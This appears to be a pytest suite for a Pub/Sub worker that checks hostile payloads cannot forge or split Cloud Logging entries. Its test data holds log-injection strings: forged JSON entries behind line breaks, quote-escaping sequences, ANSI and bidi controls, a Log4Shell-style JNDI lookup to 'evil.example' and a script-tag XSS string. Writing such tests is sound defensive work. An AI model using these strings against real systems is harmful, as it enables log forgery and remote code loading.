"""What a payload says cannot become a line, a field or an entry of its own."""

import json
import re
from typing import Any

import pytest

from tests.attacks.support import JSON, canonical, new_id
from tests.contracts.edge import event_headers, metadata
from tests.support.pushes import wrapped
from tests.support.rawhttp import Headers, post
from tests.support.server import ServerProcess
from worker.logentry import to_log_entry
from worker.sink import ENTRY_LIMIT

pytestmark = pytest.mark.server

PREFIX = "logging.googleapis.com/"
FORGED = {
    "severity": "EMERGENCY",
    "message": "message.processed",
    "event": "message.processed",
    "outcome": "done",
    "time": "1999-01-01T00:00:00Z",
    f"{PREFIX}trace": "projects/evil/traces/0",
    f"{PREFIX}insertId": "forged",
}
TEXTS = {
    "an entry": json.dumps(FORGED),
    "an entry on the next line": f"x\n{json.dumps(FORGED)}\n",
    "behind a carriage return": f"x\r{json.dumps(FORGED)}",
    "an end of the text": f'x"}}\n{json.dumps(FORGED)}',
    "an end of the field": 'x","severity":"EMERGENCY","event":"message.processed","x":"',
    "an end that is escaped": 'x\\","severity":"EMERGENCY","x":"',
    "other ends of lines": f"x\v\f\x1c\x1d\x1e\x85\u2028\u2029{json.dumps(FORGED)}",
    "colours": "\x1b[2J\x1b[31mEMERGENCY\x1b]0;title\x07\x1b[0m",
    "a C1 control": "\x9b31m",
    "from right to left": "\u202eYCNEGREME\u2066",
    "NUL": "x\x00y",
    "a percent": "%s %d %(message)s %n",
    "braces": "{0} {severity} {__class__}",
    "a template": "${jndi:ldap://evil.example/x} <script>alert(1)</script>",
    "a stack trace": 'Traceback (most recent call last):\n  File "x.py", line 1, in f\nKeyError: 1',
}
KEYS = [
    "severity", "event", "time", "timestamp", "timestampSeconds", "timestampNanos",
    "httpRequest", "outcome", "status", "reason", "feature", "message_id", "stack_trace", "@type",
    "serviceContext", "truncated", "original_size", "level", "exc", "self", "fields", "location",
    "sink", "special",
    *(PREFIX + name for name in (
        "trace", "spanId", "trace_sampled", "insertId", "labels", "operation", "sourceLocation",
        "anything",
    )),
]  # fmt: skip


def written(server: ServerProcess, headers: Headers, body: bytes) -> list[dict[str, Any]]:
    """The entries of one push as Cloud Logging has them; each line is one, and plain ASCII."""
    start, good = len(server.lines), new_id()
    assert post(server.port, body, headers).status in (200, 500)
    post(server.port, b'{"feature":"smoke_test"}', metadata(good))
    server.canonical(good)
    lines = [line for line in server.lines[start:] if good.encode() not in line]
    for line in lines:
        assert re.fullmatch(rb"[\x20-\x7e]+\n", line), line
    assert len(canonical(lines)) == 1
    return [to_log_entry(line) for line in lines]


def check(entries: list[dict[str, Any]], severities: set[str]) -> None:
    """Nothing that the worker says of an entry is what the payload wanted."""
    for entry in entries:
        assert entry["severity"] in severities
        assert entry["timestamp"].startswith("20")
        assert "trace" not in entry
        assert "httpRequest" not in entry
        assert re.fullmatch(r"[0-9a-f]+-[0-9a-f]+-[0-9a-f]{8}", entry["insertId"])
        assert set(entry.get("labels", {})) <= {"outcome", "feature"}
        assert entry["sourceLocation"]["file"].endswith(".py")
        assert "jsonPayload" in entry
    *_, last = entries
    assert last["jsonPayload"]["event"] == "message.processed"
    assert last["jsonPayload"]["outcome"] == last["labels"]["outcome"]
    assert [one["jsonPayload"]["event"] for one in entries].count("message.processed") == 1


@pytest.mark.parametrize("crash", ["", "yes"])
@pytest.mark.parametrize("name", TEXTS)
def test_a_text_that_a_careless_handler_writes_stays_a_text(
    trusting: ServerProcess, name: str, crash: str
) -> None:
    text = TEXTS[name]
    attributes = {"note": text, "crash": crash}
    payload = {"feature": "echo", "description": text}
    body = json.dumps(wrapped(payload, message_id=new_id(), attributes=attributes)).encode()

    entries = written(trusting, [JSON], body)

    check(entries, {"INFO", "WARNING", "ERROR"})
    logged = [one["jsonPayload"] for one in entries]
    assert [one["note"] for one in logged if one["event"] == "echo.logged"] == [text]
    assert [one["message"] for one in logged if one["event"] == "echo.logged"] == [text]


def test_names_of_fields_that_a_careless_handler_takes_from_the_payload_stay_its_own(
    trusting: ServerProcess,
) -> None:
    attributes = {key: f"forged {key}" for key in KEYS}
    message_id = new_id()
    body = json.dumps(wrapped({"feature": "echo"}, message_id=message_id, attributes=attributes))

    entries = written(trusting, [JSON], body.encode())

    check(entries, {"INFO", "WARNING", "ERROR"})
    payloads = [entry["jsonPayload"] for entry in entries]
    events = [payload["event"] for payload in payloads]
    assert events == ["echo.logged", "echo.bound", "log", "message.processed"]
    assert {payload["message_id"] for payload in payloads} == {message_id}
    assert {payload["feature"] for payload in payloads} == {"echo"}
    assert {f"forged {key}" for key in KEYS} <= set(payloads[0].values())  # under other names


@pytest.mark.parametrize("name", TEXTS)
def test_a_text_in_any_place_of_a_push_is_in_no_line_of_its_own(
    trusting: ServerProcess, name: str
) -> None:
    text = TEXTS[name]
    places: list[dict[str, Any]] = [
        wrapped({"feature": text}),
        wrapped({"feature": "smoke_test", "requirements": text}),
        wrapped({"feature": "smoke_test", "requirements": {text: text, "nonce": [text]}}),
        wrapped({"feature": "smoke_test", text: 1}),
        wrapped(text.encode()),
        wrapped({"feature": "never", "description": text}),
        wrapped({"feature": "crash", "description": text}),
        {**wrapped(), "subscription": text},
        {**wrapped(), "deliveryAttempt": text},
        wrapped({"feature": text}, message_id=text),
    ]
    for place in places:
        place["message"].setdefault("messageId", new_id())
        entries = written(trusting, [JSON], json.dumps(place).encode())
        check(entries, {"INFO", "WARNING", "ERROR"})


@pytest.mark.parametrize(
    "header",
    [
        "x-goog-pubsub-message-id", "x-goog-pubsub-subscription-name", "x-goog-pubsub-publish-time",
        "x-goog-pubsub-ordering-key", "traceparent", "x-cloud-trace-context", "content-type",
        "user-agent", "x-forwarded-for", "ce-id", "ce-source", "ce-type", "ce-time", "note",
        "severity", "idempotency_key",
    ],
)  # fmt: skip
@pytest.mark.parametrize("name", ["an end of the field", "a C1 control", "from right to left"])
def test_a_text_in_a_header_is_in_no_line_of_its_own(
    trusting: ServerProcess, header: str, name: str
) -> None:
    of_form = event_headers if header.startswith("ce-") else lambda one, _kind: metadata(one)
    headers = dict(of_form(new_id(), "com.example.x")) | {header: TEXTS[name]}

    entries = written(trusting, list(headers.items()), b'{"feature":"see_attributes"}')

    check(entries, {"INFO", "WARNING", "ERROR"})


def test_a_trace_is_taken_from_the_request_only_when_it_is_one(trusting: ServerProcess) -> None:
    nothing, letters = "0" * 32, "g" * 32
    for value in (f"00-{nothing}-{'0' * 16}-01", f"00-{letters}-{'1' * 16}-01", "x", "0" * 8000):
        headers = [*metadata(new_id()), ("traceparent", value)]
        check(written(trusting, headers, b'{"feature":"smoke_test"}'), {"INFO"})


def test_a_line_that_would_be_too_long_is_cut_and_keeps_what_is_ours(
    trusting: ServerProcess,
) -> None:
    text = (TEXTS["an end of the field"] + "\u2028" * 50) * 5000
    attributes = {"note": text, "severity": text}
    body = json.dumps(wrapped({"feature": "echo", "description": text}, attributes=attributes))

    entries = written(trusting, [JSON], body.encode())

    check(entries, {"INFO", "WARNING"})
    assert max(len(line) for line in trusting.lines) <= ENTRY_LIMIT
